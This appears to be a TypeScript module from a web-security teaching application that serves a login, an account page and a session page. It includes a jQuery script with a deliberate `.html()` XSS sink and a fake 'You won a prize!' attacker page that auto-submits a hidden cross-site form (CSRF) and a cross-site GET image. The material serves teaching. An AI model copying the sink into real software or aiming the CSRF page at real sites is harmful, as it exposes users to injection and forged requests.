/** The HTML pages and the script text the application serves. */

/** Escapes text for HTML element content and quoted attribute values. */
export function escapeHtml(text: string): string {
	return text
		.replaceAll('&', '&amp;')
		.replaceAll('<', '&lt;')
		.replaceAll('>', '&gt;')
		.replaceAll('"', '&quot;')
		.replaceAll("'", '&#39;');
}

function page(title: string, body: string): string {
	return `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="UTF-8">
<title>${escapeHtml(title)}</title>
</head>
<body>
${body}
</body>
</html>
`;
}

/**
 * The book's page: a text box and "Set", then "Get" and an empty output, and the script
 * `/session.js`. The page never touches the session.
 */
export function bookPage(): string {
	return page(
		'Session',
		`<h1>Session</h1>
<input type="text" id="code" aria-label="Code"><button type="button" id="set">Set</button>
<hr>
<button type="button" id="get">Get</button>
<div id="show"></div>
<p><a href="/login">Log in</a></p>
<script src="/session.js"></script>`
	);
}

/**
 * The book's script, jQuery style. It is served as text and never executed: it writes the reply
 * with `.html()`, an HTML injection sink that the XSS lesson talks about.
 */
export const SESSION_SCRIPT = `$(function() {
    $('#set').click(function() {
        $.post('/api/code', { code: $('#code').val() }, function(data) {
            $('#show').html(data['result']);
        });
    });
    $('#get').click(function() {
        $.get('/api/code', function(data) {
            $('#show').html(data['result']);
        });
    });
});
`;

/** The login form, with an optional error message and the username to fill back in. */
export function loginPage(error: string | null = null, username = ''): string {
	const message = error === null ? '' : `<p role="alert" class="error">${escapeHtml(error)}</p>\n`;
	return page(
		'Log in',
		`<h1>Log in</h1>
${message}<form method="post" action="/login">
<p><label for="username">Username</label>
<input type="text" id="username" name="username" autocomplete="username" value="${escapeHtml(username)}"></p>
<p><label for="password">Password</label>
<input type="password" id="password" name="password" autocomplete="current-password"></p>
<p><button type="submit">Log in</button></p>
</form>`
	);
}

/** The account page of a logged-in user, with a logout button. */
export function accountPage(displayName: string, username: string): string {
	return page(
		'Your account',
		`<h1>Your account</h1>
<p>Logged in as <strong>${escapeHtml(displayName)}</strong> (${escapeHtml(username)}).</p>
<form method="post" action="/logout"><button type="submit">Log out</button></form>
<p><a href="/">Home</a></p>`
	);
}

/**
 * The attacker's page on `evil.example`: a hidden form that posts `code=pwned` to the
 * application as soon as the page loads (CSRF), and an image whose URL is the application's API
 * (a cross-site GET). Which cookies travel with these requests is the browser's decision
 * (SameSite, RFC 6265bis §5.8.3.7).
 */
export function evilPage(appOrigin: string): string {
	const action = escapeHtml(`${appOrigin}/api/code`);
	return page(
		'You won a prize!',
		`<h1>You won a prize!</h1>
<p>Please wait while we send you your prize…</p>
<form id="prize" method="post" action="${action}">
<input type="hidden" name="code" value="pwned">
<button type="submit">Claim the prize</button>
</form>
<img src="${action}" alt="" width="1" height="1">
<script>document.getElementById('prize').submit();</script>`
	);
}
